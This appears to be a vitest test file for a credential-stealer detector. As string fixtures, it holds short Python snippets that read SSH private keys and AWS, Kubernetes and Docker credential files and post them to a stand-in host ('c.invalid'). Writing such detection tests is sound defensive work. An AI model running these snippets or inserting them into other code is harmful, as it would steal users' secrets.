import { expect, test } from 'vitest'
import { artifactOf, hits } from '../testing.ts'
import detector from './stealer-credentials.ts'

const seen = async (files: Record<string, string>) =>
  hits(detector, await artifactOf(files)).map(
    ({ strength, weight, where }) => `${strength} ${weight} ${where.file}:${where.line}`,
  )

test.each([
  [
    'private keys',
    'import os, requests\nk = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://c.invalid", data=k)',
    ['decisive 12 a.py:2'],
  ],
  [
    'one service after the other',
    'import os, requests\nout = []\nfor p in ["~/.aws/credentials", "~/.kube/config", "~/.docker/config.json"]:\n  out.append(open(os.path.expanduser(p)).read())\nrequests.post("https://c.invalid", json=out)',
    ['decisive 11 a.py:4'],
  ],
])('attack: %s', async (_, code, expected) => {
  expect(await seen({ 'a.py': code })).toEqual(expect.arrayContaining(expected))
})

test.each([
  ['the configuration of SSH', 'import os\nprint(open(os.path.expanduser("~/.ssh/config")).read())', []],
  [
    'a tool of one cloud',
    'import os, requests\nc = open(os.path.expanduser("~/.aws/credentials")).read()\nrequests.post("https://sts.example", headers={"Authorization": c})',
    ['context 1 a.py:2', 'context 1 a.py:3'],
  ],
])('innocent: %s', async (_, code, expected) => {
  expect(await seen({ 'a.py': code })).toEqual(expected)
})
